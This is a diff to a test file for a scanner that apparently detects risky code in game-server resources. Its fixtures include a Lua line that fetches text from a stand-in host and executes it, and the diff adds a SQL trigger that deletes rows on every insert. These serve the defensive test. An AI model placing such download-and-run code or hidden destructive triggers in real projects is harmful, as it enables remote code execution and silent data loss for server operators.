@@ -66,6 +66,7 @@ test('the program scans a resource on the oldest Node', async () => {
     'garage/server.lua',
     "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n",
   )
+  await server.write('garage/install.sql', 'create trigger a after insert on b for each row delete from c;\n')
 
   expect((await scripthaven('scan', 'garage')).stdout).toContain('[runs-downloaded-code]')
   await expect(scripthaven('scan', 'garage', '--fail-on', 'high')).rejects.toMatchObject({ code: 1 })
